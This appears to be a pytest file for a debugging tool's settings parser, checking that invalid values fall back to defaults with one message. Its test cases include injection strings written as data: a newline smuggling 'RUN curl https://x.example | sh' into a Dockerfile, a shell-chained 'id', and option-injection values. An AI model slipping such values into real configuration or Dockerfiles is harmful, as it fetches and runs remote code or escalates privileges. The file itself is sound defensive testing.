"""Every kind of invalid setting value is dropped with one message naming the setting and what it expects; the
default is used and the rest of the settings still apply (core/settings.py)."""

from __future__ import annotations

from typing import Any

import pytest
from debugbox.core.settings import Settings, parse_settings

DEFAULT = Settings()

INVALID: list[tuple[str, Any, str]] = [
    # timeouts: huge, infinite, NaN, zero, negative, not a number
    ("docker.timeoutSeconds", 1e300, "from 0.1 to 600"),
    ("docker.timeoutSeconds", float("inf"), "from 0.1 to 600"),
    ("docker.timeoutSeconds", float("nan"), "from 0.1 to 600"),
    ("docker.timeoutSeconds", 0, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", -5, "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", "10", "from 0.1 to 600"),
    ("kubernetes.timeoutSeconds", True, "from 0.1 to 600"),
    # booleans given as strings or numbers
    ("allowPrivileged", "true", "JSON boolean"),
    ("allowPrivileged", 1, "JSON boolean"),
    # enums
    ("strategy", "rootkit", "one of auto"),
    ("kubernetes.profile", "privileged", "one of auto"),
    ("logLevel", 3, "one of error"),
    # images: a newline would write an extra instruction into Dockerfile.debug; options; shell syntax
    ("debugImage.toolsImage", "busybox:musl\nRUN curl https://x.example | sh", "image reference"),
    ("debugImage.toolsImage", "--privileged", "image reference"),
    ("toolboxImage", "nicolaka/netshoot; id", "image reference"),
    ("toolboxImage", "", "image reference"),
    ("debugImage.appImage", "app\nUSER root", "image reference"),
    # names
    ("kubernetes.namespace", "-n", "namespace"),
    ("kubernetes.context", "--kubeconfig=/tmp/x", "context"),
    # lists
    ("debugImage.tools", "curl", "list"),
    ("debugImage.tools", ["curl", 5], "list"),
]


def nested(key: str, value: Any) -> dict[str, Any]:
    head, _, rest = key.partition(".")
    return {head: nested(rest, value)} if rest else {head: value}


def value_of(settings: Settings, key: str) -> Any:
    obj: Any = settings
    for part in key.split("."):
        obj = getattr(obj, "".join("_" + c.lower() if c.isupper() else c for c in part))
    return obj


@pytest.mark.parametrize(("key", "value", "expected"), INVALID, ids=[f"{k}={v!r}" for k, v, _ in INVALID])
def test_an_invalid_value_falls_back_to_the_default_with_one_message(
    key: str, value: Any, expected: str
) -> None:
    for raw in (nested(key, value), {f"debugbox.{key}": value}):
        settings, problems = parse_settings({**raw, "strategy": "sidecar"} if key != "strategy" else raw)
        assert value_of(settings, key) == value_of(DEFAULT, key)
        (problem,) = problems
        assert f"debugbox.{key}" in problem and expected in problem and "\n" not in problem
        if key != "strategy":
            assert settings.strategy == "sidecar"  # the valid rest still applies


@pytest.mark.parametrize("raw", [[1], "debugbox", 5, True])
def test_a_payload_that_is_not_an_object_is_one_message(raw: Any) -> None:
    settings, problems = parse_settings(raw)
    assert settings == DEFAULT and len(problems) == 1 and "must be an object" in problems[0]


def test_valid_values_are_kept() -> None:
    raw = {
        "docker": {"timeoutSeconds": 600},
        "kubernetes": {"timeoutSeconds": 0.5, "namespace": "shop", "context": "kind-dev"},
        "debugImage": {
            "toolsImage": "registry.example:5000/tools/busybox@sha256:" + "a" * 64,
            "appImage": "",
        },
        "allowPrivileged": True,
    }
    settings, problems = parse_settings(raw)
    assert problems == []
    assert settings.docker.timeout_seconds == 600.0 and settings.kubernetes.timeout_seconds == 0.5
    assert settings.debug_image.tools_image.startswith("registry.example:5000/") and settings.allow_privileged
